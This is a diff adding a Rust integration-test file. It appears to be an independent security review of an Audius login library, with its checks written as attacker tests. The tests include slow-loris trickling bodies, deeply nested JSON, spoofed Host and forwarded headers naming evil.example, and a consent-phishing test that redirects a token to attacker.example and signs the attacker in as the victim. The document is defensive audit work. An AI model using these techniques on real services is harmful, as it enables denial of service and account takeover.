@@ -1,0 +1,541 @@
+//! A seventh independent review (main at 51a363b), away from the code flow's refresh: the
+//! callback's channels, slow and odd clients, what the app trusts of the request, cookies.
+//! Written as the attacker's tests, end to end through the real routes on a real server and a
+//! real sandbox.
+//!
+//! Tests marked FINDING assert the promised behaviour and FAIL on the code they were written
+//! against; the others are defences that held, kept because the suite lacked their case.
+#![allow(clippy::unwrap_used)]
+
+mod common;
+
+use std::time::{Duration, Instant};
+
+use actix_audius_login::{AudiusLogin, ResponseMode};
+use audius_sandbox::TokenOverrides;
+use common::attacker::{answer, begin, browser, mint};
+use common::{SESSION_COOKIE, TestApp, sandbox, start_with};
+use reqwest::header::{ACCEPT, CONTENT_TYPE, COOKIE, LOCATION, SET_COOKIE};
+use reqwest::redirect::Policy;
+use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use url::Url;
+
+/// The session cookie a response sets, as `name=value`.
+fn set_cookie(res: &reqwest::Response) -> Option<String> {
+    res.headers()
+        .get_all(SET_COOKIE)
+        .iter()
+        .filter_map(|v| v.to_str().ok())
+        .find(|v| v.starts_with(&format!("{SESSION_COOKIE}=")))
+        .map(|v| v.split(';').next().unwrap().to_owned())
+}
+
+/// A client without a cookie jar: it sends exactly the cookie it is told to.
+fn bare_client() -> reqwest::Client {
+    reqwest::Client::builder()
+        .redirect(Policy::none())
+        .timeout(Duration::from_secs(20))
+        .build()
+        .unwrap()
+}
+
+fn origin_of(app: &TestApp) -> String {
+    app.audius.redirect_uri().origin().ascii_serialization()
+}
+
+/// Every character of `s` percent-encoded (`%xx`), a spelling no form encoder produces.
+fn percent_all(s: &str) -> String {
+    s.bytes().map(|b| format!("%{b:02X}")).collect()
+}
+
+/// Every character of `s` as a JSON `\u00xx` escape.
+fn json_escaped(s: &str) -> String {
+    s.chars().map(|c| format!("\\u{:04x}", c as u32)).collect()
+}
+
+/// The channels a callback is accepted in: GET query, POST form, POST JSON. Each sends
+/// `state` and `token` in the given (pre-encoded) spelling with `cookie` (and the app's Origin
+/// for the POSTs, as its own pages send).
+#[derive(Debug, Clone, Copy)]
+enum Channel {
+    Query,
+    Form,
+    Json,
+}
+
+async fn deliver_raw(
+    app: &TestApp,
+    cookie: &str,
+    channel: Channel,
+    state: &str,
+    token: &str,
+) -> (u16, String) {
+    let client = bare_client();
+    let path = app.url(app.audius.redirect_uri().path());
+    let req = match channel {
+        Channel::Query => {
+            let mut url = path.clone();
+            url.set_query(Some(&format!("state={state}&token={token}")));
+            client.get(url)
+        }
+        Channel::Form => client
+            .post(path)
+            .header("origin", origin_of(app))
+            .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
+            .body(format!("state={state}&token={token}")),
+        Channel::Json => client
+            .post(path)
+            .header("origin", origin_of(app))
+            .header(ACCEPT, "application/json")
+            .header(CONTENT_TYPE, "application/json")
+            .body(format!(r#"{{"state":"{state}","token":"{token}"}}"#)),
+    };
+    let res = req.header(COOKIE, cookie).send().await.unwrap();
+    let status = res.status().as_u16();
+    if matches!(status, 302 | 303) {
+        return (status, res.headers()[LOCATION].to_str().unwrap().to_owned());
+    }
+    let body: Value = res.json().await.unwrap_or(Value::Null);
+    if status == 200 {
+        return (
+            200,
+            body["redirect"].as_str().unwrap_or_default().to_owned(),
+        );
+    }
+    (
+        status,
+        body["error"].as_str().unwrap_or_default().to_owned(),
+    )
+}
+
+/// Starts a login with no cookie jar; returns (the session cookie, the state).
+async fn begin_bare(app: &TestApp) -> (String, String) {
+    let res = bare_client()
+        .get(app.url(app.audius.login_path()))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 302);
+    let cookie = set_cookie(&res).expect("the login route sets the session cookie");
+    let page = Url::parse(res.headers()[LOCATION].to_str().unwrap()).unwrap();
+    let state = page
+        .query_pairs()
+        .find(|(k, _)| k == "state")
+        .map(|(_, v)| v.into_owned())
+        .unwrap();
+    (cookie, state)
+}
+
+// =============================================================================================
+// Slow clients: a callback body that never ends
+// =============================================================================================
+
+/// Sends a POST to the callback that declares a body and then trickles it (one byte every
+/// `every`, forever, or never a byte when `every` is `None`); returns how long the server took
+/// to answer or close the connection, or `None` if it still held it after `patience`.
+async fn trickled_callback(
+    app: &TestApp,
+    every: Option<Duration>,
+    patience: Duration,
+) -> Option<Duration> {
+    let addr = format!(
+        "{}:{}",
+        app.base.host_str().unwrap(),
+        app.base.port().unwrap()
+    );
+    let stream = tokio::net::TcpStream::connect(&addr).await.unwrap();
+    let (mut read, mut write) = stream.into_split();
+    let head = format!(
+        "POST {} HTTP/1.1\r\nHost: {addr}\r\nOrigin: {}\r\nContent-Type: application/json\r\n\
+         Accept: application/json\r\nContent-Length: 8000\r\n\r\n",
+        app.audius.redirect_uri().path(),
+        origin_of(app)
+    );
+    write.write_all(head.as_bytes()).await.unwrap();
+    let writer = tokio::spawn(async move {
+        let Some(every) = every else {
+            // Never a byte of the body, but the connection stays open.
+            tokio::time::sleep(Duration::from_secs(3600)).await;
+            return;
+        };
+        loop {
+            tokio::time::sleep(every).await;
+            if write.write_all(b" ").await.is_err() {
+                return; // The server closed: good.
+            }
+        }
+    });
+    let started = Instant::now();
+    let mut buf = [0u8; 1024];
+    let outcome = tokio::time::timeout(patience, read.read(&mut buf)).await;
+    writer.abort();
+    match outcome {
+        Ok(_) => Some(started.elapsed()), // An answer, or the connection closed.
+        Err(_) => None,
+    }
+}
+
+// FINDING: a callback body that trickles (or never comes) holds the callback forever.
+//
+// SECURITY.md, "Resource exhaustion by large inputs": the threat is "huge or endless inputs
+// (tokens, callback bodies, upstream bodies, trickling connections, ...) exhaust memory or
+// time"; the brief's standard is "never a hang". The POST callback reads its body with
+// `web::Payload` in a loop that has a size cap (64 KiB) but no deadline
+// (`routes/callback.rs`, `callback_post_handler`), and actix-web's own timeouts stop at the
+// request head (`client_request_timeout`), so a client that declares a body and sends one byte
+// every few seconds (or none) keeps the handler, its connection and its buffer for ever. Cheap
+// for an attacker (a socket and a byte now and then per held request), a slow-loris on the
+// login route: enough of them reach the server's connection limit (`max_connections`, 25,000
+// per worker by default) and nobody can log in.
+#[actix_web::test]
+async fn a_callback_body_that_trickles_or_never_comes_is_cut_off() {
+    let app = start_with(sandbox().await, ResponseMode::Fragment, |b| b).await;
+    // The bridge posts a few KiB at once; thirty seconds is far beyond any honest body.
+    let patience = Duration::from_secs(30);
+    let (trickle, silent) = futures_util::future::join(
+        trickled_callback(&app, Some(Duration::from_secs(2)), patience),
+        trickled_callback(&app, None, patience),
+    )
+    .await;
+    println!("trickling body answered after {trickle:?}; silent body after {silent:?}");
+    assert!(
+        trickle.is_some(),
+        "a callback body trickling one byte every 2 s was still being read after {patience:?}"
+    );
+    assert!(
+        silent.is_some(),
+        "a callback whose declared body never comes was still waiting after {patience:?}"
+    );
+}
+
+// =============================================================================================
+// Odd bodies: cheap to send, cheap to refuse
+// =============================================================================================
+
+/// A callback body of deeply nested JSON, or of thousands of form fields, within the 64 KiB
+/// cap: refused (or judged) at once with a typed 400, never a crash of the worker; the app
+/// serves the next login.
+#[actix_web::test]
+async fn deep_json_and_wide_forms_at_the_callback_are_refused_cheaply() {
+    let app = start_with(sandbox().await, ResponseMode::Fragment, |b| b).await;
+    let client = browser();
+    let state = begin(&app, &client).await;
+    let callback = app.url(app.audius.redirect_uri().path());
+    let depth = 30_000;
+    let deep_unknown = format!(
+        r#"{{"state":"{state}","x":{}{}}}"#,
+        "[".repeat(depth),
+        "]".repeat(depth)
+    );
+    let deep_state = format!(r#"{{"state":{}{}}}"#, "[".repeat(depth), "]".repeat(depth));
+    let wide_form = format!(
+        "{}state={state}&token=x",
+        "a=1&".repeat(15_000) // 60 KB of fields before the ones that matter
+    );
+    let started = Instant::now();
+    for (case, content_type, body) in [
+        ("deep unknown field", "application/json", deep_unknown),
+        ("deep state", "application/json", deep_state),
+        ("wide form", "application/x-www-form-urlencoded", wide_form),
+    ] {
+        assert!(body.len() < 64 * 1024, "{case}: within the cap");
+        let res = client
+            .post(callback.clone())
+            .header("origin", origin_of(&app))
+            .header(ACCEPT, "application/json")
+            .header(CONTENT_TYPE, content_type)
+            .body(body)
+            .send()
+            .await
+            .unwrap();
+        let (status, code) = answer(res).await;
+        assert_eq!(status, 400, "{case}: {code}");
+        assert!(
+            [
+                "invalid_callback",
+                "state_mismatch",
+                "missing_token",
+                "malformed_token"
+            ]
+            .contains(&code.as_str()),
+            "{case}: {code}"
+        );
+    }
+    assert!(
+        started.elapsed() < Duration::from_secs(5),
+        "three odd bodies took {:?}",
+        started.elapsed()
+    );
+    // The worker lives: a real login goes through.
+    assert_eq!(app.login("listener", None).await.status(), 200);
+}
+
+// =============================================================================================
+// A state, and a token, used once: every channel, every spelling
+// =============================================================================================
+
+/// The cookie store's cookie from before a successful callback, replayed with its consumed
+/// state in every channel the callback takes (GET query, POST form, POST JSON), and in
+/// spellings the app never produces (every character percent-encoded, every character a JSON
+/// `\u` escape): refused every time. A used token, delivered in every channel and spelling with
+/// a fresh state of another session: refused every time, and the session stays signed out.
+#[actix_web::test]
+async fn a_consumed_state_and_a_used_token_are_refused_in_every_channel_and_spelling() {
+    let app = start_with(sandbox().await, ResponseMode::Query, |b| b).await;
+    let (cookie, state) = begin_bare(&app).await;
+    let token = mint(&app, "listener", TokenOverrides::default());
+    assert_eq!(
+        deliver_raw(&app, &cookie, Channel::Query, &state, &token)
+            .await
+            .0,
+        302
+    );
+    let mut n = 0;
+    for channel in [Channel::Query, Channel::Form, Channel::Json] {
+        let spellings = match channel {
+            Channel::Json => vec![state.clone(), json_escaped(&state)],
+            _ => vec![state.clone(), percent_all(&state)],
+        };
+        for spelled in spellings {
+            n += 1;
+            let fresh = mint(
+                &app,
+                "artist",
+                TokenOverrides::default().claim("n", json!(n)),
+            );
+            assert_eq!(
+                deliver_raw(&app, &cookie, channel, &spelled, &fresh).await,
+                (400, "state_mismatch".into()),
+                "{channel:?}, state spelled {spelled:?}: the consumed state signed in again"
+            );
+        }
+    }
+    // The used token, in every channel and spelling, each with a fresh state of its own.
+    for channel in [Channel::Query, Channel::Form, Channel::Json] {
+        let spellings = match channel {
+            Channel::Json => vec![token.clone(), json_escaped(&token)],
+            _ => vec![token.clone(), percent_all(&token)],
+        };
+        for spelled in spellings {
+            let (cookie, state) = begin_bare(&app).await;
+            assert_eq!(
+                deliver_raw(&app, &cookie, channel, &state, &spelled).await,
+                (401, "replayed_token".into()),
+                "{channel:?}: the used token signed in again"
+            );
+        }
+    }
+}
+
+/// A state is bound to the session that started it, whatever the channel: another session's
+/// state (the attacker's own, from a login the attacker started) with a token the attacker may
+/// hold, delivered into the victim's session by GET, form and JSON, is refused, and the
+/// victim's own pending login still works afterwards (the refusals took nothing from it).
+#[actix_web::test]
+async fn another_sessions_state_is_refused_in_every_channel_and_leaves_the_victims_login() {
+    let app = start_with(sandbox().await, ResponseMode::Query, |b| b).await;
+    let (victim_cookie, victim_state) = begin_bare(&app).await;
+    for (i, channel) in [Channel::Query, Channel::Form, Channel::Json]
+        .into_iter()
+        .enumerate()
+    {
+        let (_attacker_cookie, attacker_state) = begin_bare(&app).await;
+        let attackers = mint(
+            &app,
+            "artist",
+            TokenOverrides::default().claim("n", json!(i)),
+        );
+        assert_eq!(
+            deliver_raw(&app, &victim_cookie, channel, &attacker_state, &attackers).await,
+            (400, "state_mismatch".into()),
+            "{channel:?}"
+        );
+    }
+    let own = mint(&app, "listener", TokenOverrides::default());
+    assert_eq!(
+        deliver_raw(&app, &victim_cookie, Channel::Query, &victim_state, &own)
+            .await
+            .0,
+        302
+    );
+}
+
+// =============================================================================================
+// What the app trusts of the request: never Host or X-Forwarded-*
+// =============================================================================================
+
+/// `Host`, `X-Forwarded-Host`, `X-Forwarded-Proto`, `Forwarded` naming another site: the login
+/// still sends Audius the configured callback and origin, and a logout posted from that other
+/// site (its `Origin`, matching the spoofed `Host`) is refused.
+#[actix_web::test]
+async fn host_and_forwarded_headers_are_never_trusted() {
+    let app = start_with(sandbox().await, ResponseMode::PostMessage, |b| b).await;
+    let spoof = [
+        ("host", "evil.example"),
+        ("x-forwarded-host", "evil.example"),
+        ("x-forwarded-proto", "https"),
+        ("forwarded", "host=evil.example;proto=https"),
+    ];
+    let mut req = app.client.get(app.url(app.audius.login_path()));
+    for (name, value) in spoof {
+        req = req.header(name, value);
+    }
+    let res = req.send().await.unwrap();
+    assert_eq!(res.status(), 302);
+    let page = Url::parse(res.headers()[LOCATION].to_str().unwrap()).unwrap();
+    let param = |name: &str| {
+        page.query_pairs()
+            .find(|(k, _)| k == name)
+            .map(|(_, v)| v.into_owned())
+    };
+    assert_eq!(param("redirect_uri").as_deref(), Some("postmessage"));
+    assert_eq!(param("origin"), Some(origin_of(&app)), "{page}");
+    assert!(!page.as_str().contains("evil.example"), "{page}");
+
+    assert_eq!(app.login("listener", None).await.status(), 200);
+    let mut req = app
+        .client
+        .post(app.url(app.audius.logout_path()))
+        .header("origin", "https://evil.example");
+    for (name, value) in spoof {
+        req = req.header(name, value);
+    }
+    let (status, code) = answer(req.send().await.unwrap()).await;
+    assert_eq!((status, code.as_str()), (403, "cross_site_request"));
+    assert_eq!(app.me().await.status(), 200, "still signed in");
+}
+
+// =============================================================================================
+// Cookies: Secure except on plain-http loopback, whatever the host looks like
+// =============================================================================================
+
+/// `cookie_secure()` is off only for plain http on a loopback host; hosts that merely look
+/// like one (`localhost.evil.example`, `127.0.0.1.nip.io`, `localhost-evil.example`,
+/// `evil-localhost`) are `Secure`, as is https on loopback.
+#[test]
+fn cookie_secure_is_off_only_for_plain_http_on_loopback() {
+    let secure = |uri: &str| {
+        AudiusLogin::builder("Review", uri)
+            .build()
+            .unwrap_or_else(|e| panic!("{uri}: {e}"))
+            .cookie_secure()
+    };
+    for uri in [
+        "http://localhost.evil.example/cb",
+        "http://127.0.0.1.nip.io/cb",
+        "http://localhost-evil.example/cb",
+        "http://evil-localhost/cb",
+        "http://mylocalhost/cb",
+        "http://app.example/cb",
+        "https://localhost/cb",
+        "https://127.0.0.1:8443/cb",
+        "https://[::1]/cb",
+    ] {
+        assert!(secure(uri), "{uri}: the cookie must be Secure");
+    }
+    for uri in [
+        "http://localhost:8080/cb",
+        "http://app.localhost/cb",
+        "http://127.0.0.1:3000/cb",
+        "http://127.9.8.7/cb",
+        "http://[::1]:8080/cb",
+    ] {
+        assert!(!secure(uri), "{uri}: plain-http loopback, not Secure");
+    }
+}
+
+// =============================================================================================
+// The implicit flow's token is not bound to the redirect URI it was delivered to
+// =============================================================================================
+
+const APP_KEY: &str = "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00";
+
+// FINDING (undocumented boundary of the audience defence; the test passes and proves the
+// attack, to be quoted in SECURITY.md's "Known gaps"):
+//
+// README: "tokens approved for another app: with the app's API key set, a token's `apiKey`
+// must be it"; SECURITY.md, "Tokens approved for another app": the defence against "anyone
+// holding a fresh token a user gave *another* Audius app". But the `apiKey` says only which
+// key the *link* named, and the login link is public: anyone can take this app's own link
+// (its `api_key`, its `app_name`) and change `redirect_uri` (or `origin`, for postmessage) to
+// a page of theirs. Audius' page checks registered redirect URIs only in the PKCE flow (spec,
+// section 5), so it shows the victim *this app's* name and hands the token, `apiKey` = this
+// app's key, to the attacker's page, who delivers it with a state of their own session and is
+// signed in here as the victim. No spelling, age or audience check can tell: the token is
+// exactly the one the app would have received. A phishing link, not a forgery: the victim
+// approves what looks like a login to this app.
+//
+// Fix: the implicit flow cannot close it (the token names no redirect URI); say so in
+// SECURITY.md (Known gaps, and next to the audience defence) and recommend the code flow with
+// registered redirect URIs (the code is bound to them, and exchanged with the PKCE verifier of
+// the session that started the login) for apps where an account takeover by a consent-phishing
+// link matters.
+#[actix_web::test]
+async fn a_login_link_with_the_apps_key_and_the_attackers_redirect_signs_the_attacker_in() {
+    let sandbox = std::sync::Arc::new(
+        audius_sandbox::Sandbox::builder()
+            .app(audius_sandbox::DeveloperApp::new("Review", APP_KEY, Vec::new()).unwrap())
+            .start()
+            .await
+            .unwrap(),
+    );
+    let app = start_with(sandbox, ResponseMode::Fragment, |b| b.api_key(APP_KEY)).await;
+    // The attacker takes the app's own login link and points its answer at their page.
+    let attacker = browser();
+    let res = attacker
+        .get(app.url(app.audius.login_path()))
+        .send()
+        .await
+        .unwrap();
+    let own_link = Url::parse(res.headers()[LOCATION].to_str().unwrap()).unwrap();
+    let mut phishing = own_link.clone();
+    phishing.set_query(None);
+    for (k, v) in own_link.query_pairs() {
+        match k.as_ref() {
+            "redirect_uri" => phishing
+                .query_pairs_mut()
+                .append_pair("redirect_uri", "https://attacker.example/steal"),
+            "state" => phishing.query_pairs_mut().append_pair("state", "x"),
+            _ => phishing.query_pairs_mut().append_pair(&k, &v),
+        };
+    }
+    // The victim approves it on Audius' page (it names this app), which sends the token to the
+    // attacker's page.
+    let mut approve = phishing.clone();
+    approve
+        .query_pairs_mut()
+        .append_pair("sandbox_user", "listener");
+    let answer_res = bare_client().get(approve).send().await.unwrap();
+    assert_eq!(answer_res.status(), 302, "Audius' page accepts the link");
+    let stolen = Url::parse(answer_res.headers()[LOCATION].to_str().unwrap()).unwrap();
+    assert_eq!(stolen.host_str(), Some("attacker.example"));
+    let token = url::form_urlencoded::parse(stolen.fragment().unwrap().as_bytes())
+        .find(|(k, _)| k == "token")
+        .map(|(_, v)| v.into_owned())
+        .unwrap();
+    // The attacker delivers it with a state of their own session.
+    let state = begin(&app, &attacker).await;
+    let res = attacker
+        .post(app.url(app.audius.redirect_uri().path()))
+        .header("origin", origin_of(&app))
+        .header(ACCEPT, "application/json")
+        .json(&json!({"state": state, "token": token}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 200, "the stolen token signs the attacker in");
+    let me: Value = attacker
+        .get(app.url("/me"))
+        .header(ACCEPT, "application/json")
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(
+        me["handle"], "listener",
+        "the attacker's browser is signed in as the victim"
+    );
+}
